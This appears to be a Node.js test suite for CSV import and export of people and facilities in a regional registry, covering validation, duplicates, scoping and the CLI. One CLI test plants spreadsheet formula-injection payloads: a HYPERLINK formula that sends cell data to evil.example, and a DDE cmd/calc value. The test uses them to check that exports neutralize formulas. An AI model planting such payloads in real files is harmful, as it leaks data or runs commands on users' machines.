// CSV import and export of people and facilities, over HTTP and the CLI: whole-file validation,
// reports naming every bad row, dry runs, duplicates, quoting and BOMs.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync, readFileSync, statSync, existsSync } from 'node:fs';
import { join } from 'node:path';
import { createHash } from 'node:crypto';
import { startServer, cleanup, makeIin } from './harness.mjs';
import { sql } from './sql.mjs';

let server, admin;

function snapshot() {
  return sql(server.db.url, "SELECT (SELECT COUNT(*) FROM people) || '/' || (SELECT COUNT(*) FROM facilities) || '/' || (SELECT COUNT(*) FROM audit_log) || '/' || (SELECT hash FROM audit_head)");
}

const HEADER = 'family_name,given_name,patronymic,birth_date,iin,phone,email,region,status,skills';
let serial = 1000;
// A CSV line for a fictional person born on the given day.
function row({ family = 'Ахметов', given = 'Ерлан', patronymic = '', year = 1988, month = 4, day = 12, iin, region = 'IMP-EAST', status = 'reservist', skills = '' } = {}) {
  iin = iin ?? makeIin(year, month, day, serial += 3);
  const date = `${year}-${String(month).padStart(2, '0')}-${String(day).padStart(2, '0')}`;
  return [family, given, patronymic, date, iin, '+77011234567', 'test@example.kz', region, status, skills].join(',');
}

const upload = (path, text, headers = {}) =>
  admin.call('POST', path, text, { 'content-type': 'text/csv; charset=utf-8', ...headers });

before(async () => {
  server = await startServer();
  admin = await server.login();
  const city = (await admin.post('/api/v1/regions', { code: 'IMP-CITY', level: 'city', name: { kk: 'Қала', ru: 'Город', en: 'City' } })).body;
  await admin.post('/api/v1/regions', { code: 'IMP-EAST', level: 'district', parent_id: city.id, name: { kk: 'Шығыс', ru: 'Восток', en: 'East' } });
  await admin.post('/api/v1/regions', { code: 'IMP-WEST', level: 'district', parent_id: city.id, name: { kk: 'Батыс', ru: 'Запад', en: 'West' } });
});
after(async () => { await server.stop(); cleanup(server); });

test('a valid file with a BOM, CRLF and quoted fields is stored whole with one audit entry', async () => {
  const text = '\uFEFF' + [HEADER,
    row({ family: '"Құрманғазы, ""Төре"""', given: 'Әлия', skills: 'first aid||2099-01-01;driver|2015-05-05|' }),
    row({ family: 'Ёлкин', given: '"Иван\nмладший"', patronymic: 'Петрович' }),
    row({ family: 'Smith', given: 'Anna', region: 'IMP-WEST', status: 'volunteer' })].join('\r\n') + '\r\n';
  const dry = await upload('/api/v1/people/import?dry_run=true', text);
  assert.equal(dry.status, 200, JSON.stringify(dry.body));
  assert.equal(dry.body.valid, true);
  assert.equal(dry.body.rows, 3);
  assert.equal(dry.body.stored, 0);
  assert.equal(dry.body.preview[0].family_name, 'Құрманғазы, "Төре"');
  assert.equal(dry.body.preview[1].given_name, 'Иван\nмладший');

  const before = snapshot();
  const r = await upload('/api/v1/people/import', text);
  assert.equal(r.status, 201, JSON.stringify(r.body));
  assert.equal(r.body.stored, 3);
  const sha = createHash('sha256').update(Buffer.from(text)).digest('hex');
  assert.equal(r.body.sha256, sha);
  assert.notEqual(snapshot(), before);
  const found = await admin.get(`/api/v1/people?q=${encodeURIComponent('елкин')}`);
  assert.equal(found.body.items.length, 1);
  const k = (await admin.get(`/api/v1/people?q=${encodeURIComponent('ҚҰРМАНҒАЗЫ')}`)).body.items[0];
  assert.deepEqual(k.skills.map((s) => [s.skill, s.qualified_on, s.expires_on]), [['first aid', null, '2099-01-01'], ['driver', '2015-05-05', null]]);
  assert.deepEqual((await admin.get(`/api/v1/people/${k.id}`)).body.skills, k.skills);
  const audit = await admin.get('/api/v1/audit?entity_type=person&entity_id=import&limit=10');
  assert.equal(audit.body.items.length, 1);
  assert.equal(audit.body.items[0].action, 'people.import');
  assert.equal(audit.body.items[0].after.rows, 3);
  assert.equal(audit.body.items[0].after.sha256, sha);
});

test('one bad row among 10,000 rejects the whole file, names that row, stores nothing', async () => {
  const lines = [HEADER];
  for (let i = 0; i < 10000; i++) {
    const year = 1960 + (i % 40), month = 1 + (i % 12), day = 1 + (i % 28);
    lines.push(row({ family: `Фамилия${i}`, year, month, day, iin: makeIin(year, month, day, 1 + Math.floor(i / 480) * 20) }));
  }
  // IINs must be unique: make them so by serial per (date) bucket.
  const seen = new Set();
  for (let i = 1; i < lines.length; i++) {
    let parts = lines[i].split(',');
    let s = 2000;
    while (seen.has(parts[4])) {
      const [y, m, d] = parts[3].split('-').map(Number);
      parts[4] = makeIin(y, m, d, s += 11);
    }
    seen.add(parts[4]);
    lines[i] = parts.join(',');
  }
  const bad = lines[5001].split(',');
  bad[4] = bad[4].slice(0, 11) + String((Number(bad[4][11]) + 1) % 10);  // wrong check digit
  lines[5001] = bad.join(',');
  const text = lines.join('\n') + '\n';
  const before = snapshot();
  const r = await upload('/api/v1/people/import', text);
  assert.equal(r.status, 422, JSON.stringify(r.body).slice(0, 500));
  assert.equal(r.headers.get('content-type'), 'application/problem+json');
  assert.equal(r.body.report.rows, 10000);
  assert.deepEqual(r.body.report.problems.map((p) => [p.row, p.column]), [[5002, 'iin']]);
  assert.deepEqual(r.body.errors.map((e) => e.field), ['row 5002, iin']);
  assert.equal(snapshot(), before);

  // The same file with the row fixed goes in whole.
  lines[5001] = row({ family: 'Исправленный', year: 2001, month: 2, day: 3 });
  const ok = await upload('/api/v1/people/import', lines.join('\n'));
  assert.equal(ok.status, 201, JSON.stringify(ok.body).slice(0, 500));
  assert.equal(ok.body.stored, 10000);
  const count = Number(sql(server.db.url, "SELECT COUNT(*) FROM people WHERE family_name LIKE 'Фамилия%'"));
  assert.equal(count, 9999);
});

test('a large refused file: the first 1,000 problems listed and the rest counted, the same over HTTP and the CLI, nothing changed', async () => {
  // 30,000 rows: loaded as a large load (people indexes set aside, then rebuilt) until refused.
  const lines = [HEADER];
  const used = new Set();
  let firstIin;
  for (let i = 0; i < 30000; i++) {
    const day = 1 + (i % 28);
    let serial = 1 + Math.floor(i / 28), iin = makeIin(1971, 3, day, serial);
    while (used.has(iin)) iin = makeIin(1971, 3, day, ++serial);
    used.add(iin);
    firstIin ??= iin;
    lines.push(row({ family: `Большой${i}`, year: 1971, month: 3, day, iin, status: i % 20 === 7 ? 'retired' : 'reservist' }));
  }
  // The last row repeats the first row's IIN: found by the rows stored before it.
  lines.push(row({ family: 'Повтор', year: 1971, month: 3, day: 1, iin: firstIin }));
  const text = lines.join('\n') + '\n';
  const bad = 30000 / 20;
  const indexes = () => sql(server.db.url, server.db.url.startsWith('sqlite:')
    ? "SELECT COUNT(*) FROM sqlite_schema WHERE type = 'index' AND tbl_name = 'people'"
    : "SELECT COUNT(*) FROM pg_indexes WHERE tablename = 'people'");
  const before = snapshot(), indexesBefore = indexes();
  const r = await upload('/api/v1/people/import', text);
  assert.equal(r.status, 422, JSON.stringify(r.body).slice(0, 500));
  assert.equal(r.body.report.rows, 30001);
  assert.equal(r.body.report.problem_count, bad + 1);
  assert.equal(r.body.report.problems.length, 1000);
  assert.equal(r.body.errors.length, 1000);
  assert.deepEqual(r.body.report.problems[0], { row: 9, column: 'status', message: r.body.report.problems[0].message });
  assert.match(r.body.detail ?? r.body.title, new RegExp(`${bad + 1} problems in 30001 data rows\\. The first 1000 are listed`));
  assert.equal(snapshot(), before);
  assert.equal(indexes(), indexesBefore);

  // Without the bad statuses only the repeated IIN is left, named with the row it repeats.
  const statusFixed = text.replaceAll(',retired,', ',reservist,');
  const d = await upload('/api/v1/people/import?dry_run=true', statusFixed);
  assert.equal(d.status, 422);
  assert.deepEqual(d.body.report.problems, [{ row: 30002, column: 'iin', message: 'duplicates the IIN in row 2' }]);
  assert.equal(snapshot(), before);

  const file = join(server.db.dir, 'large-bad.csv');
  writeFileSync(file, text);
  const c = server.cli(['import', 'people', file]);
  assert.equal(c.code, 1);
  assert.match(c.stderr, new RegExp(`${bad + 1} problem\\(s\\) in 30001 data rows`));
  assert.match(c.stderr, /row 9, status/);
  assert.match(c.stderr, new RegExp(`and ${bad + 1 - 1000} more problem\\(s\\)`));
  assert.equal(snapshot(), before);
  assert.equal(indexes(), indexesBefore);
});

test('every bad row is reported: duplicates in the file and in the database, bad values, unknown regions', async () => {
  const existing = sql(server.db.url, 'SELECT COUNT(*) FROM people') > 0;
  assert.ok(existing);
  const known = (await admin.get('/api/v1/people?q=smith')).body.items[0].iin;
  const dupIin = makeIin(1977, 7, 7, 77);
  const text = [HEADER,
    row({ iin: dupIin, year: 1977, month: 7, day: 7 }),
    row({ iin: dupIin, year: 1977, month: 7, day: 7 }),
    row({ iin: known }),
    row({ status: 'retired', region: 'NOWHERE' }),
    row({ year: 2015 }),
    'Только,три,поля'].join('\n');
  const before = snapshot();
  const r = await upload('/api/v1/people/import', text);
  assert.equal(r.status, 422);
  const got = r.body.report.problems.map((p) => [p.row, p.column]);
  assert.deepEqual(got, [[3, 'iin'], [4, 'iin'], [5, 'region'], [6, 'birth_date'], [7, null]]);
  assert.match(r.body.report.problems[0].message, /row 2/);
  assert.match(r.body.report.problems[1].message, /already registered/);
  assert.equal(snapshot(), before);
  // The status problem on row 5 is found once the region is fixed: values are all checked.
  const r2 = await upload('/api/v1/people/import?dry_run=true', [HEADER, row({ status: 'retired' })].join('\n'));
  assert.deepEqual(r2.body.report.problems.map((p) => [p.row, p.column]), [[2, 'status']]);
});

test('broken quoting, bad headers, invalid UTF-8 and wrong content types are refused', async () => {
  const before = snapshot();
  let r = await upload('/api/v1/people/import', [HEADER, row(), row({ family: '"Незакрытая' })].join('\n'));
  assert.equal(r.status, 422);
  assert.deepEqual(r.body.report.problems.map((p) => [p.row, p.column]), [[3, 'family_name']]);
  assert.match(r.body.report.problems[0].message, /quot/);
  r = await upload('/api/v1/people/import', [HEADER, row({ given: 'Ер"лан' })].join('\n'));
  assert.deepEqual(r.body.report.problems.map((p) => [p.row, p.column]), [[2, 'given_name']]);
  r = await upload('/api/v1/people/import', 'family_name,given_nme,birth_date,iin,status,region\n');
  assert.equal(r.status, 422);
  assert.deepEqual(r.body.report.problems.map((p) => [p.row, p.column]).sort(), [[1, 'given_name'], [1, 'given_nme']]);
  const bytes = Buffer.concat([Buffer.from(HEADER + '\n' + 'Ахмет'), Buffer.from([0xff]), Buffer.from(row().slice(6))]);
  const res = await fetch(`${server.base}/api/v1/people/import`, { method: 'POST', headers: { authorization: `Bearer ${admin.token}`, 'content-type': 'text/csv' }, body: bytes });
  assert.equal(res.status, 422);
  r = { body: await res.json() };
  assert.deepEqual(r.body.report.problems.map((p) => [p.row, p.column]), [[2, 'family_name']]);
  r = await admin.post('/api/v1/people/import', { rows: [] });
  assert.equal(r.status, 415);
  r = await upload('/api/v1/people/import', '');
  assert.equal(r.status, 422);
  assert.equal(snapshot(), before);
});

test('hq_staff import only into their region; other roles cannot import people', async () => {
  const hq = await server.account(admin, 'hq-imp', 'hq_staff', { region: 'IMP-EAST' });
  const r = await hq.call('POST', '/api/v1/people/import', [HEADER, row(), row({ region: 'IMP-WEST' })].join('\n'), { 'content-type': 'text/csv' });
  assert.equal(r.status, 422);
  assert.deepEqual(r.body.report.problems.map((p) => [p.row, p.column]), [[3, 'region']]);
  const aud = await server.account(admin, 'aud-imp', 'auditor');
  assert.equal((await aud.call('POST', '/api/v1/people/import', HEADER, { 'content-type': 'text/csv' })).status, 403);
});

test('an IIN registered outside a scoped importer\'s region is refused without naming the person', async () => {
  const iin = makeIin(1979, 3, 14, 501);
  const east = await upload('/api/v1/people/import', [HEADER, row({ iin, year: 1979, month: 3, day: 14, region: 'IMP-EAST' })].join('\n'));
  assert.equal(east.status, 201, JSON.stringify(east.body));
  const west = await server.account(admin, 'imp-hq-west', 'hq_staff', { region: 'IMP-WEST' });
  const again = [HEADER, row({ iin, year: 1979, month: 3, day: 14, region: 'IMP-WEST' })].join('\n');
  const r = await west.call('POST', '/api/v1/people/import?dry_run=true', again, { 'content-type': 'text/csv' });
  assert.equal(r.status, 422);
  assert.equal(r.body.report.problems[0].column, 'iin');
  assert.match(r.body.report.problems[0].message, /already registered outside your region/);
  assert.doesNotMatch(JSON.stringify(r.body), /person \d+/);
  // Whoever may see the person is told which one it is.
  const a = await upload('/api/v1/people/import?dry_run=true', again);
  assert.match(a.body.report.problems[0].message, /already registered \(person \d+\)/);
});

test('a file brings each person\'s language and unit: members are counted in the unit\'s strength', async () => {
  const east = (await admin.get('/api/v1/regions')).body.items.find((r) => r.code === 'IMP-EAST');
  const west = (await admin.get('/api/v1/regions')).body.items.find((r) => r.code === 'IMP-WEST');
  const unit = (await admin.post('/api/v1/units', { name: 'Импорттық рота', kind: 'territorial_troops', region_id: east.id, status: 'active' })).body;
  const westUnit = (await admin.post('/api/v1/units', { name: 'Батыс ротасы', kind: 'territorial_troops', region_id: west.id, status: 'active' })).body;
  const header = HEADER + ',language,unit_id,position,member_from';
  const text = [header,
    row({ family: 'Тілеуова', given: 'Мөлдір' }) + `,ru,${unit.id},driver,2026-01-15`,
    row({ family: 'Тілеуов', given: 'Бауыржан' }) + `,en,${unit.id},medic,`,
    row({ family: 'Тілеуұлы', given: 'Арман' }) + ',,,,'].join('\n');
  const r = await upload('/api/v1/people/import', text);
  assert.equal(r.status, 201, JSON.stringify(r.body));
  assert.equal(r.body.stored, 3);
  const people = (await admin.get(`/api/v1/people?q=${encodeURIComponent('Тілеу')}&limit=10`)).body.items;
  const byName = Object.fromEntries(people.map((p) => [p.given_name, p]));
  assert.equal(byName['Мөлдір'].language, 'ru');
  assert.equal(byName['Бауыржан'].language, 'en');
  assert.equal(byName['Арман'].language ?? null, null);
  const m = (await admin.get(`/api/v1/people/${byName['Мөлдір'].id}/memberships`)).body;
  const list = m.items ?? m;
  assert.equal(list.length, 1);
  assert.equal(list[0].unit_id, unit.id);
  assert.equal(list[0].position, 'driver');
  assert.equal(list[0].from, '2026-01-15');
  const today = new Date().toISOString().slice(0, 10);
  const m2 = (await admin.get(`/api/v1/people/${byName['Бауыржан'].id}/memberships`)).body;
  assert.equal((m2.items ?? m2)[0].from, today);
  const strength = (await admin.get(`/api/v1/units/${unit.id}/strength`)).body;
  assert.equal(JSON.stringify(strength).includes('driver'), true, JSON.stringify(strength));

  const hq = await server.account(admin, 'hq-imp-units', 'hq_staff', { region: 'IMP-EAST' });
  // An unknown unit, a unit outside a scoped importer's region, a position without a unit, a unit
  // without a position and a bad date are named by row and column; nothing is stored.
  const before = snapshot();
  const bad = [header,
    row() + ',kk,999999,driver,',
    row() + `,kk,${unit.id},,`,
    row() + ',kk,,driver,',
    row() + `,kk,${unit.id},cook,2026-02-30`,
    row() + `,xx,${unit.id},cook,`].join('\n');
  const r2 = await upload('/api/v1/people/import', bad);
  assert.equal(r2.status, 422);
  assert.deepEqual(r2.body.report.problems.map((p) => [p.row, p.column]),
    [[2, 'unit_id'], [3, 'position'], [4, 'unit_id'], [5, 'member_from'], [6, 'language']]);
  assert.match(r2.body.report.problems[0].message, /no unit has id 999999/);
  assert.equal(snapshot(), before);
  const r3 = await hq.call('POST', '/api/v1/people/import', [header, row() + `,kk,${westUnit.id},cook,`].join('\n'),
    { 'content-type': 'text/csv; charset=utf-8' });
  assert.equal(r3.status, 422);
  assert.deepEqual(r3.body.report.problems.map((p) => [p.row, p.column]), [[2, 'unit_id']]);
  assert.equal(snapshot(), before);
});

test('the CLI imports, dry-runs, rejects with every bad row and exports what it imported', async () => {
  const file = join(server.db.dir, 'people.csv');
  // A name a spreadsheet would run as a formula (fictional, hostile on purpose).
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
  writeFileSync(file, [HEADER, row({ family: 'Клиев', skills: 'radio' }), row({ family: 'Клиева', given: 'Дана' }),
    row({ family: '"' + formula.replaceAll('"', '""') + '"', given: "+cmd|' /C calc'!A0" })].join('\n'));
  let c = server.cli(['import', 'people', file, '--dry-run']);
  assert.equal(c.code, 0, c.stderr);
  assert.match(c.stdout, /3 people would be imported/);
  assert.equal(sql(server.db.url, "SELECT COUNT(*) FROM people WHERE family_name LIKE 'Клиев%'"), '0');
  c = server.cli(['import', 'people', file]);
  assert.equal(c.code, 0, c.stderr);
  assert.match(c.stdout, /imported 3 people/);
  assert.equal(sql(server.db.url, "SELECT COUNT(*) FROM people WHERE family_name LIKE 'Клиев%'"), '2');
  assert.equal(sql(server.db.url, "SELECT given_name FROM people WHERE family_name LIKE '=HYPERLINK%'"), "+cmd|' /C calc'!A0");

  const bad = join(server.db.dir, 'bad.csv');
  writeFileSync(bad, [HEADER, row({ iin: '123' }), row(), row({ status: 'x' })].join('\n'));
  const before = snapshot();
  c = server.cli(['import', 'people', bad]);
  assert.equal(c.code, 1);
  assert.match(c.stderr, /row 2, iin: must be exactly 12 digits/);
  assert.match(c.stderr, /row 4, status/);
  assert.equal(snapshot(), before);

  const out = join(server.db.dir, 'export.csv');
  c = server.cli(['export', 'people', '--out', out]);
  assert.equal(c.code, 0, c.stderr);
  assert.match(c.stderr, /warning: this export holds every person's national ID \(IIN\)/);
  // Personal data is readable by its owner only: the export and the database with its WAL.
  assert.equal(statSync(out).mode & 0o777, 0o600);
  if (server.db.url.startsWith('sqlite:')) {
    const dbFile = server.db.url.slice('sqlite:'.length);
    for (const f of [dbFile, dbFile + '-wal', dbFile + '-shm'])
      if (existsSync(f)) assert.equal(statSync(f).mode & 0o777, 0o600, f);
  }
  const exported = readFileSync(out, 'utf8').split('\r\n');
  // Formulas are written as text (a leading apostrophe), and come back unchanged below.
  assert.ok(exported.some((l) => l.startsWith('"\'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",\'+cmd|')), exported.find((l) => l.includes('HYPERLINK')));
  assert.equal(exported[0], 'family_name,given_name,patronymic,birth_date,iin,phone,email,region,status,skills,language');
  assert.ok(exported.some((l) => l.startsWith('Тілеуова,') && l.endsWith(',ru')));
  const total = Number(sql(server.db.url, 'SELECT COUNT(*) FROM people'));
  assert.equal(exported.filter((l) => l).length, total + 1);
  assert.ok(exported.some((l) => l.startsWith('"Құрманғазы, ""Төре""",Әлия,')));
  assert.ok(exported.some((l) => l.startsWith('Клиев,') && l.endsWith(',radio||,')));
  // An export re-imports into an empty database.
  const fresh = await startServer();
  try {
    const regions = await fresh.login();
    const city = (await regions.post('/api/v1/regions', { code: 'IMP-CITY', level: 'city', name: { kk: 'a', ru: 'a', en: 'a' } })).body;
    for (const code of ['IMP-EAST', 'IMP-WEST']) await regions.post('/api/v1/regions', { code, level: 'district', parent_id: city.id, name: { kk: 'a', ru: 'a', en: 'a' } });
    c = fresh.cli(['import', 'people', out]);
    assert.equal(c.code, 0, c.stderr.slice(0, 500));
    assert.equal(Number(sql(fresh.db.url, 'SELECT COUNT(*) FROM people')), total);
    assert.equal(sql(fresh.db.url, "SELECT family_name || ' / ' || given_name FROM people WHERE family_name LIKE '=HYPERLINK%'"),
      `${formula} / +cmd|' /C calc'!A0`);
  } finally { await fresh.stop(); cleanup(fresh); }
});

test('facilities: import over HTTP and the CLI, bad rows reported, export', async () => {
  const head = 'name,kind,region,address,lat,lon,criticality,guard_posts,shelter_capacity';
  const good = [head, 'Школа №1,education,IMP-EAST,"ул. Абая, 1",43.25,76.95,2,1,800', 'ТЭЦ-2,energy,IMP-WEST,,43.3,76.8,1,4,'].join('\n');
  const dry = await upload('/api/v1/facilities/import?dry_run=true', good);
  assert.equal(dry.status, 200, JSON.stringify(dry.body));
  assert.equal(dry.body.preview[0].address, 'ул. Абая, 1');
  const before = snapshot();
  const bad = [head, 'Школа №2,school,IMP-EAST,,43.25,76.95,2,1,', 'Х,water,IMP-EAST,,91,76.95,4,1,', 'Y,water,IMP-EAST,,43,76,1,1,10'].join('\n');
  const r = await upload('/api/v1/facilities/import', bad);
  assert.equal(r.status, 422);
  assert.deepEqual(r.body.report.problems.map((p) => [p.row, p.column]), [[2, 'kind'], [3, 'lat'], [3, 'criticality']]);
  assert.equal(snapshot(), before);
  const ok = await upload('/api/v1/facilities/import', good);
  assert.equal(ok.status, 201, JSON.stringify(ok.body));
  assert.equal(ok.body.stored, 2);
  const list = await admin.get('/api/v1/facilities?q=' + encodeURIComponent('школа'));
  assert.equal(list.body.items.length, 1);
  assert.equal(list.body.items[0].shelter_capacity, 800);

  const file = join(server.db.dir, 'fac.csv');
  writeFileSync(file, [head, 'Водозабор,water,IMP-EAST,,43.2,76.9,1,2,'].join('\n'));
  let c = server.cli(['import', 'facilities', file]);
  assert.equal(c.code, 0, c.stderr);
  c = server.cli(['export', 'facilities']);
  assert.equal(c.code, 0, c.stderr);
  const lines = c.stdout.trim().split('\r\n');
  assert.equal(lines.length, 4);
  assert.ok(lines.includes('Школа №1,education,,IMP-EAST,"ул. Абая, 1",43.25,76.95,2,1,800'));
});

test('a rejected file is reported in the caller\'s language: how many problems in how many rows', async () => {
  const text = [HEADER, row(), row({ status: 'retired' }), row({ status: 'retired' })].join('\n') + '\n';
  const before = sql(server.db.url, 'SELECT COUNT(*) FROM people');
  const says = {
    ru: 'Файл отклонён, ничего не сохранено: ошибок — 2, строк данных — 3.',
    kk: 'Файл қабылданбады, ештеңе сақталмады: қателер саны — 2, деректер жолдары — 3.',
    en: 'The file was rejected and nothing was stored: 2 problems in 3 data rows.',
  };
  for (const [lang, detail] of Object.entries(says)) {
    const r = await upload('/api/v1/people/import', text, { 'accept-language': lang });
    assert.equal(r.status, 422, JSON.stringify(r.body));
    assert.equal(r.headers.get('content-language'), lang);
    assert.equal(r.body.detail, detail);
  }
  assert.equal(sql(server.db.url, 'SELECT COUNT(*) FROM people'), before);
});
